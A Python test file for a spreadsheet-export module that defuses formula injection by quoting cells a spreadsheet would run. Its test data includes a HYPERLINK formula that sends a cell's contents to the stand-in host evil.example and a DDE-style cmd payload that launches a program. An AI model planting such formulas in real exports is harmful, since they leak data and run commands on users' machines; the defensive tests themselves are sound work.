"""No export carries a live formula: the one rule of governance.kernel.spreadsheets."""

import io

import pytest
from openpyxl import load_workbook

from governance.kernel.spreadsheets import XlsxBook, csv_cell, csv_stream

EVIL = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+86 138", "'+86 138"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        # Numbers, also as the text a report prints, are never changed.
        ("-3", "-3"),
        ("-1.25", "-1.25"),
        ("+5", "+5"),
        ("-0.5%", "-0.5%"),
        ("93.72", "93.72"),
        (-3, -3),
        (2.5, 2.5),
        # Ordinary text, and text with a trigger inside rather than first.
        ("甲一社区", "甲一社区"),
        ("a=b", "a=b"),
        ("—", "—"),
        ("", ""),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, written):
    assert csv_cell(value) == written


def test_xlsx_text_is_a_string_cell_never_a_formula():
    out = io.BytesIO()
    book = XlsxBook(out)
    sheet = book.sheet("t", title_line=None, header=["a", "b", "c", "d"], widths=[10] * 4,
                       number_formats=[None, "@", "0", None])
    sheet.append([EVIL, "-2+3", 42, None])
    book.close()
    cells = list(load_workbook(io.BytesIO(out.getvalue()))["t"].iter_rows())[1]
    assert [(c.value, c.data_type) for c in cells[:3]] == [(EVIL, "s"), ("-2+3", "s"), (42, "n")]
    assert cells[1].number_format == "@" and cells[3].value is None


def test_the_csv_stream_has_one_bom_and_quotes_formulas():
    raw = b"".join(csv_stream([["a", "b"], None, [EVIL, -3]], batch=1))
    assert raw.decode("utf-8") == '\ufeffa,b\r\n\r\n"\'=HYPERLINK(""http://evil.example/x?""&A2,""点击查看"")",-3\r\n'
    assert b"".join(csv_stream([["x"]], bom=False)) == b"x\r\n"
